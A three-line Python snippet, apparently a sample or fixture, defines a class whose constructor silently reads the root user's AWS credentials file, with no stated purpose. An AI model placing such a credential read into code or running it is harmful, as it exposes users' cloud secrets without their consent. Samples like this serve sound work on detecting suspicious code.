class M:
    def __init__(self):
        open('/root/.aws/credentials').read()
